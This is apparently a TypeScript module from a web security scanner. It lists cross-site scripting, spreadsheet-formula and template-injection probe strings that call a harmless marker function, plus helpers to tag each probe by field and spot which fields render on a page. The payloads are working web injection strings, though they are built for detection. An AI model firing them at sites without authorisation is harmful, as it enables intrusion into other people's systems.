/** The function that an attack calls, with the number of the field it was stored in. */
export const alarm = 'hit7731';
/** The picture that injected markup loads: no page names it. */
export const picture = '/x7731';

/** Finds the numbers of the fields whose texts stand on a page. */
export const shownFields = (text: string) =>
  Array.from(text.matchAll(/hit7731\((\d+)\)/g), ([, field]) => Number(field));

/** Texts that do something where a page, a template or a spreadsheet takes them for more than text. */
const long = [
  `"'></textarea></title><script>hit7731(N)</script><img src=/x7731 onerror=hit7731(N)><svg/onload=hit7731(N)>{{7*7}}`,
  `=HYPERLINK("javascript:hit7731(N)") <a href="javascript:hit7731(N)" onmouseover=hit7731(N)>`,
  '‏שלום‏ <iframe srcdoc="<script>parent.hit7731(N)</script>">hit7731(N)${7*7}#{7*7}<%=7*7%>',
];
const medium = [
  '<img src=/x7731 onerror=hit7731(N)>',
  '<svg/onload=hit7731(N)>',
  '<script>hit7731(N)</script>',
  'hit7731(N){{7*7}}${7*7}',
  '=1+hit7731(N)<b onclick=hit7731(N)>',
];
const short = ['<b onclick=hit7731(N)>'];
const links = ['javascript:hit7731(N)'];

/** The same attack in fewer characters, for columns that refuse long texts. */
export const sizes = [long, medium, short] as const;
export const linkSizes = [links] as const;

export const payloadsOf = (texts: readonly string[], field: number) =>
  texts.map((text) => text.replaceAll('hit7731(N)', `hit7731(${field})`));

/** Every payload once. */
export const everyPayload = [...sizes.flat(), ...links];
